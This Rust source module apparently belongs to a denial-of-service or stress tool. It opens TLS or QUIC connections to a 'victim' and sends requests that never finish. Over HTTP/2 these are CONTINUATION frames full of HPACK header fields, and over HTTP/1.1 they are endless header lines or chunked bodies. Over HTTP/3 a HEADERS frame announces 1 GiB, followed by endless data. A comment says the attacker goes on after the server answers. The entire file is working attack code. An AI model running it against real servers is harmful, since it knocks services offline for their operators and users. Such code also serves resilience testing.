//! Endless requests: heads and content.

use std::io;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};

use super::Force;
use crate::wire::{H3_DATA, H3_HEADERS, Head, h2, h2_frame, h3_frame, h3_frame_head};

/// Bytes sent at a time: HTTP/2's frames have no more by default.
const PIECE: usize = 16 << 10;
/// Declared length in bytes of an HTTP/3 HEADERS frame.
const ANNOUNCED: u64 = 1 << 30;

pub(super) async fn endless_heads(force: &Force, number: usize) -> io::Result<()> {
    match number % 3 {
        0 => {
            // The field `x: y` of HPACK, a literal that is not indexed (RFC 7541 §6.2.2), again and again.
            let fields = [0x00, 0x01, b'x', 0x01, b'y'].repeat(PIECE / 5);
            let mut begin = h2_start();
            begin.extend(h2_frame(h2::HEADERS, h2::END_STREAM, 1, &Head::get("/").hpack()));
            over_tls(
                force,
                number,
                b"h2",
                begin,
                h2_frame(h2::CONTINUATION, 0, 1, &fields),
            )
            .await
        }
        1 => {
            let begin = b"GET / HTTP/1.1\r\nhost: localhost\r\n".to_vec();
            let field = [b"x: ".as_slice(), &[b'y'; 1_000], b"\r\n"].concat();
            over_tls(force, number, b"http/1.1", begin, field).await
        }
        _ => over_quic(force, number, &h3_frame_head(H3_HEADERS, ANNOUNCED), &[0; PIECE]).await,
    }
}

pub(super) async fn endless_content(force: &Force, number: usize) -> io::Result<()> {
    let head = Head::new("POST", force.victim.title.as_str());
    match number % 3 {
        0 => {
            let mut begin = h2_start();
            begin.extend(head.http2(1, false));
            over_tls(
                force,
                number,
                b"h2",
                begin,
                h2_frame(h2::DATA, 0, 1, &[b'x'; PIECE]),
            )
            .await
        }
        1 => {
            let begin = head.with("transfer-encoding", "chunked").http1();
            let chunk = [format!("{PIECE:x}\r\n").as_bytes(), &[b'x'; PIECE], b"\r\n"].concat();
            over_tls(force, number, b"http/1.1", begin, chunk).await
        }
        _ => over_quic(force, number, &head.http3(), &h3_frame(H3_DATA, &[b'x'; PIECE])).await,
    }
}

/// Beginning of a connection with HTTP/2.
fn h2_start() -> Vec<u8> {
    [h2::PREFACE, &h2_frame(h2::SETTINGS, 0, 0, &[])].concat()
}

/// Sends `begin`, and then `piece` endlessly.
async fn over_tls(
    force: &Force,
    number: usize,
    protocol: &[u8],
    begin: Vec<u8>,
    piece: Vec<u8>,
) -> io::Result<()> {
    let stream = force.tls(number, protocol).await?;
    let _open = force.tally.open();
    let (reading, writing): (_, _) = tokio::io::split(stream);
    send(force, reading, writing, (begin, piece)).await
}

async fn over_quic(force: &Force, number: usize, begin: &[u8], piece: &[u8]) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    let (writing, reading) = connection.open_bi().await?;
    send(force, reading, writing, (begin.to_vec(), piece.to_vec())).await
}

async fn send(
    force: &Force,
    reading: impl AsyncRead + Unpin,
    mut writing: impl AsyncWrite + Unpin,
    (begin, piece): (Vec<u8>, Vec<u8>),
) -> io::Result<()> {
    let sending = async {
        writing.write_all(&begin).await?;
        loop {
            force.act().await;
            writing.write_all(&piece).await?;
        }
    };
    let receiving = async {
        force.drain(reading).await?;
        // The server has answered; an attacker goes on.
        std::future::pending().await
    };
    tokio::select! {
        biased;
        ended = receiving => ended,
        failed = sending => failed,
    }
}
